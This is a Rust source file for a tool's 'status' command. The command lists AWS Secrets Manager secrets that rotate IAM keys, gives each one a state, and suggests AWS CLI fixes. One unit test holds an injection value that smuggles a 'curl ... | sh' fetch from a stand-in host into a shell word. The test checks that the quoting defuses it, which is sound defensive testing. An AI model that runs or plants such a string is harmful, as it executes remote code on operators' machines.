//! `keyrot status`: one row per rotated secret, with the state an operator acts
//! on and the command that fixes it.

use std::time::Duration;

use aws_sdk_iam::primitives::DateTime;
use futures::{StreamExt, stream};
use serde::Serialize;

use super::{CONCURRENCY, FleetError};
use crate::aws::Clients;
use crate::aws::account::Reader;
use crate::aws::iam;
use crate::aws::listing;
use crate::clock::{age_days, now, rfc3339};
use crate::model::binding::{Binding, bind_command};
use crate::model::secret::Secret;
use crate::model::secret_value::SecretValue;
use crate::model::user::IamUser;

#[derive(Debug, Clone)]
pub struct StatusOptions {
    /// Only secrets whose name starts with this.
    pub prefix: String,
    /// Only secrets rotated by this function (any qualifier).
    pub function_arn: Option<String>,
    /// A pending version older than this is a stuck rotation.
    pub stuck_after: Duration,
    /// Read users of other accounts through their read-only member role instead
    /// of the secret's `RoleArn`, which trusts the rotation function only: set
    /// across an organization, where every account has that role (its
    /// `accounts` are filled in by the run across accounts).
    pub reader: Option<Reader>,
}

/// A secret's state, most urgent first (SPEC 9); in JSON and tables as
/// `rotation-disabled`, `rolled-back`, ...
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum SecretState {
    Broken,
    Stuck,
    Rotating,
    Unbound,
    RotationDisabled,
    RolledBack,
    Overdue,
    Ok,
}

impl SecretState {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Broken => "broken",
            Self::Stuck => "stuck",
            Self::Rotating => "rotating",
            Self::Unbound => "unbound",
            Self::RotationDisabled => "rotation-disabled",
            Self::RolledBack => "rolled-back",
            Self::Overdue => "overdue",
            Self::Ok => "ok",
        }
    }
}

impl std::fmt::Display for SecretState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One secret's row (the JSON schema of `keyrot status --output json`).
#[derive(Debug, Clone, Serialize)]
pub struct StatusRow {
    /// With `--org` or `--accounts` only.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub account: Option<String>,
    /// The account's name, for tables.
    #[serde(skip)]
    pub account_name: Option<String>,
    pub secret_name: String,
    pub secret_arn: String,
    pub user: String,
    pub rotation_enabled: bool,
    pub schedule: String,
    pub last_rotated: Option<String>,
    pub next_rotation: Option<String>,
    pub current_key_id: Option<String>,
    pub current_key_age_days: Option<f64>,
    pub current_key_last_used: Option<String>,
    pub state: SecretState,
    pub fix: Option<String>,
}

/// What a status run found besides its rows.
#[derive(Debug, Default)]
pub struct StatusSummary {
    pub secrets: usize,
    /// Secrets whose user could not be read, with why: the caller reports them
    /// and exits with an access error.
    pub unreadable: Vec<String>,
}

/// Visits every secret under the prefix whose value names a user, a page of
/// secrets at a time, and hands each row to `emit` in listing order.
pub async fn status(
    clients: &Clients,
    options: &StatusOptions,
    mut emit: impl FnMut(StatusRow),
) -> Result<StatusSummary, FleetError> {
    let mut summary = StatusSummary::default();
    let now = now();
    let mut pages = listing::SecretPages::new(&clients.secrets, Some(&options.prefix));
    while let Some(page) = pages.next().await? {
        let page: Vec<Secret> = page
            .into_iter()
            .filter(|s| {
                options
                    .function_arn
                    .as_deref()
                    .is_none_or(|function| s.is_rotated_by(function))
            })
            .collect();
        let values = listing::current_values(&clients.secrets, &page).await?;
        let mut rows = stream::iter(page.iter().filter_map(|secret| {
            let value = values.get(&secret.arn)?;
            Some(async move {
                let row = build_row(clients, secret, value, options, now).await;
                (&secret.name, row)
            })
        }))
        .buffered(CONCURRENCY);
        while let Some((name, row)) = rows.next().await {
            summary.secrets += 1;
            match row {
                Ok(row) => emit(row),
                Err(error) => summary.unreadable.push(format!("{name}: {error}")),
            }
        }
    }
    Ok(summary)
}

async fn build_row(
    clients: &Clients,
    secret: &Secret,
    value: &SecretValue,
    options: &StatusOptions,
    now: DateTime,
) -> Result<StatusRow, FleetError> {
    let user_name = value.user_name();
    let iam = crate::aws::account::iam_client_to_read_user(
        clients,
        secret,
        value,
        options.reader.as_ref(),
    )
    .await?;
    let user = iam::read_user_and_keys(&iam, user_name).await?;
    let current_version = Some(secret.current_version()).filter(|v| !v.is_empty());
    let previous_version = secret.previous_version();
    // One ListSecretVersionIds answers both: when the pending version was made,
    // and whether AWSCURRENT is older than AWSPREVIOUS (rolled back).
    let created = if secret.pending_version().is_some() || previous_version.is_some() {
        listing::versions_created(&clients.secrets, secret).await?
    } else {
        Default::default()
    };
    let pending_since = secret
        .pending_version()
        .and_then(|version| created.get(version).copied());
    // Rolled back by keyrot (its record names the current version), or by
    // hand (AWSCURRENT older than AWSPREVIOUS).
    let rolled_back = match (current_version, previous_version) {
        (Some(current), Some(previous)) => {
            user.as_ref()
                .and_then(|(u, _)| u.rollback_record())
                .is_some_and(|(version, _)| version == current)
                || created.get(current).zip(created.get(previous)).is_some_and(
                    |(current, previous)| {
                        (current.secs(), current.subsec_nanos())
                            < (previous.secs(), previous.subsec_nanos())
                    },
                )
        }
        _ => false,
    };
    let current_key = value.access_key_id();
    let key = user
        .as_ref()
        .and_then(|(_, keys)| keys.iter().find(|k| Some(k.id.as_str()) == current_key));
    let last_used = match key {
        Some(key) => iam::read_last_used(&iam, &key.id).await?,
        None => None,
    };

    let facts = Facts {
        secret,
        user: user_name,
        user_exists: user.is_some(),
        unbound: user
            .as_ref()
            .and_then(|(u, _)| unbound_fix(u, secret, user_elsewhere(secret, value))),
        current_key,
        current_key_works: key.is_some_and(|k| k.active),
        pending: secret.pending_version().map(|version| {
            let minutes = pending_since
                .map(|since| (age_days(&since, &now) * 1440.0).max(0.0))
                .unwrap_or(0.0);
            (version, minutes)
        }),
        overdue: secret
            .next_rotation()
            .is_some_and(|next| next.secs() < now.secs()),
        rolled_back,
        stuck_after_minutes: options.stuck_after.as_secs_f64() / 60.0,
    };
    let (state, fix) = facts.judge();
    Ok(StatusRow {
        account: None,
        account_name: None,
        secret_name: secret.name.clone(),
        secret_arn: secret.arn.clone(),
        user: user_name.to_string(),
        rotation_enabled: secret.rotation_enabled,
        schedule: secret.schedule(),
        last_rotated: secret.last_rotated.as_ref().map(rfc3339),
        next_rotation: secret.next_rotation().as_ref().map(rfc3339),
        current_key_id: current_key.map(str::to_string),
        current_key_age_days: key
            .and_then(|k| k.created.as_ref())
            .map(|c| age_days(c, &now)),
        current_key_last_used: last_used.as_ref().map(rfc3339),
        state,
        fix,
    })
}

/// The fix for a user not bound to this secret, or `None` if it is. The
/// re-tag command is offered for a missing tag and for the name form earlier
/// versions accepted (with the secret's creation date, to check it is the
/// secret the name meant, not one recreated since); never to move a user bound
/// to another secret, which only its administrator may decide.
///
/// Only a user of the secret's own account, tagged with exactly this secret's
/// name, gets the `# bound by name` line that docs/operating.md's one-pass
/// upgrade selects: a user read through a `RoleArn` is tagged in its own
/// account, and a tag naming another secret is not this secret's to claim.
fn unbound_fix(user: &IamUser, secret: &Secret, elsewhere: Option<&str>) -> Option<String> {
    let retag = bind_command(&user.name, &secret.arn);
    let created = secret
        .created
        .as_ref()
        .map_or("at an unknown time".to_string(), rfc3339);
    match user.binding() {
        Binding::To(arn) if arn == secret.arn => None,
        _ if elsewhere.is_some() => Some(format!(
            "the user is in account {}: there, an administrator who has checked who created this secret (created {created}; CloudTrail CreateSecret) runs {retag}",
            elsewhere.unwrap_or_default()
        )),
        // Whoever may create a secret can name any user in it: binding is an
        // administrator's decision, made knowing who created the secret.
        Binding::None => Some(format!(
            "{retag}  # not bound: first check who created this secret (created {created}; CloudTrail CreateSecret)"
        )),
        Binding::ByName(name) if name == secret.name => Some(format!(
            "{retag}  # bound by name: first check that this secret (created {created}) is the one the tag meant"
        )),
        Binding::ByName(name) => Some(format!(
            "its binding tag holds another name ({name}): nothing to do if that secret rotates the user; to bind it here, an administrator first checks who created this secret (created {created}; CloudTrail CreateSecret), then runs {retag}"
        )),
        Binding::To(other) => Some(format!(
            "bound to another secret ({other}): nothing to do if that one rotates the user; to move it here, an administrator first checks who created this secret (CloudTrail CreateSecret) and then re-tags it"
        )),
    }
}

/// The account of the value's user when it is not the secret's own (a
/// `RoleArn` into another account).
fn user_elsewhere<'a>(secret: &Secret, value: &'a SecretValue) -> Option<&'a str> {
    value
        .role_arn()
        .and_then(crate::arn::account_of)
        .filter(|account| Some(*account) != secret.account_id())
}

/// What the state of a secret is judged from.
struct Facts<'a> {
    secret: &'a Secret,
    user: &'a str,
    user_exists: bool,
    /// `None` when the user is bound to this secret; else the fix.
    unbound: Option<String>,
    current_key: Option<&'a str>,
    current_key_works: bool,
    /// `AWSCURRENT` is older than `AWSPREVIOUS`: moved back by `keyrot rollback`
    /// or by hand.
    rolled_back: bool,
    /// The pending version and how many minutes ago it was made.
    pending: Option<(&'a str, f64)>,
    overdue: bool,
    stuck_after_minutes: f64,
}

impl Facts<'_> {
    /// The most urgent state, and the command that fixes it. Consumers are
    /// broken now > a rotation failed > the next one will fail > none will run >
    /// one is late > one is running.
    fn judge(&self) -> (SecretState, Option<String>) {
        let name = &self.secret.name;
        let rotate = format!("aws secretsmanager rotate-secret --secret-id {name}");
        if !self.user_exists {
            return (
                SecretState::Broken,
                Some(format!(
                    "IAM user {} does not exist: fix UserName in secret {name}, or delete the secret",
                    self.user
                )),
            );
        }
        if self.current_key.is_some() && !self.current_key_works {
            return (
                SecretState::Broken,
                Some(format!(
                    "the AWSCURRENT key is deleted or Inactive, so consumers are failing: rotate now to issue a working key: {rotate}"
                )),
            );
        }
        if let Some((version, minutes)) = self.pending {
            let pending = format!("pending for {minutes:.0} min");
            if minutes >= self.stuck_after_minutes {
                return (
                    SecretState::Stuck,
                    Some(format!(
                        "{pending}: find the errorType in the log of the rotation function, fix its cause, then: aws secretsmanager update-secret-version-stage --secret-id {name} --version-stage AWSPENDING --remove-from-version-id {} && {rotate}",
                        shell_word(version)
                    )),
                );
            }
            if self.unbound.is_none() && self.secret.rotation_enabled {
                return (
                    SecretState::Rotating,
                    Some(format!("{pending}: wait for it to finish")),
                );
            }
        }
        if let Some(fix) = &self.unbound {
            return (SecretState::Unbound, Some(fix.clone()));
        }
        if !self.secret.rotation_enabled {
            let function = self
                .secret
                .rotation_lambda_arn
                .clone()
                .unwrap_or_else(|| "<rotation function ARN>".to_string());
            return (
                SecretState::RotationDisabled,
                Some(format!(
                    "{rotate} --rotation-lambda-arn {function} --rotation-rules AutomaticallyAfterDays=30"
                )),
            );
        }
        if self.rolled_back {
            return (
                SecretState::RolledBack,
                Some(format!(
                    "the secret is back on the key its last rotation replaced: fix the consumer that needed the old key, then rotate again: {rotate}"
                )),
            );
        }
        if self.overdue {
            return (SecretState::Overdue, Some(rotate));
        }
        (SecretState::Ok, None)
    }
}

/// `word` as one shell word: as it is when it holds only characters no shell
/// treats specially, else single-quoted. A version id is the rotation's
/// `ClientRequestToken`, which whoever starts a rotation chooses.
fn shell_word(word: &str) -> std::borrow::Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/=+@,%".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.into()
    } else {
        format!("'{}'", word.replace('\'', "'\\''")).into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secret(enabled: bool) -> Secret {
        Secret {
            arn: "arn:aws:secretsmanager:us-east-1:1:secret:iam-keys/app-AbCdEf".into(),
            name: "iam-keys/app".into(),
            rotation_enabled: enabled,
            rotation_lambda_arn: Some("arn:aws:lambda:us-east-1:1:function:rotator".into()),
            every_days: Some(30),
            schedule_expression: None,
            created: None,
            last_rotated: None,
            next_rotation: None,
            versions: Default::default(),
        }
    }

    fn healthy(secret: &Secret) -> Facts<'_> {
        Facts {
            secret,
            user: "app",
            user_exists: true,
            unbound: None,
            rolled_back: false,
            current_key: Some("AKIA1"),
            current_key_works: true,
            pending: None,
            overdue: false,
            stuck_after_minutes: 15.0,
        }
    }

    #[test]
    fn a_version_id_is_one_shell_word_whatever_its_characters() {
        assert_eq!(shell_word("a1b2-c3d4"), "a1b2-c3d4");
        assert_eq!(
            shell_word("';curl e.vil|sh;# bound by name"),
            "''\\'';curl e.vil|sh;# bound by name'"
        );
    }

    #[test]
    fn the_most_urgent_state_wins_and_every_problem_has_a_fix() {
        let enabled = secret(true);
        let disabled = secret(false);
        let state = |facts: Facts<'_>| facts.judge();
        assert_eq!(state(healthy(&enabled)), (SecretState::Ok, None));
        let overdue = state(Facts {
            overdue: true,
            ..healthy(&enabled)
        });
        assert_eq!(overdue.0, SecretState::Overdue);
        assert_eq!(
            overdue.1.unwrap(),
            "aws secretsmanager rotate-secret --secret-id iam-keys/app"
        );
        let rotating = Facts {
            pending: Some(("v2", 3.0)),
            overdue: true,
            ..healthy(&enabled)
        };
        assert_eq!(state(rotating).0, SecretState::Rotating);
        let stuck = state(Facts {
            pending: Some(("v2", 20.0)),
            ..healthy(&enabled)
        });
        assert_eq!(stuck.0, SecretState::Stuck);
        assert!(stuck.1.unwrap().contains("pending for 20 min"));
        let broken = Facts {
            current_key_works: false,
            pending: Some(("v2", 20.0)),
            ..healthy(&enabled)
        };
        assert_eq!(state(broken).0, SecretState::Broken);
        assert_eq!(
            state(Facts {
                user_exists: false,
                ..healthy(&enabled)
            })
            .0,
            SecretState::Broken
        );
        assert_eq!(
            state(Facts {
                unbound: Some("aws iam tag-user ...".into()),
                overdue: true,
                ..healthy(&enabled)
            })
            .0,
            SecretState::Unbound
        );
        assert_eq!(
            state(Facts {
                overdue: true,
                ..healthy(&disabled)
            })
            .0,
            SecretState::RotationDisabled
        );
        // A secret not yet rotated has no key to be broken.
        assert_eq!(
            state(Facts {
                current_key: None,
                current_key_works: false,
                ..healthy(&enabled)
            })
            .0,
            SecretState::Ok
        );
    }
}
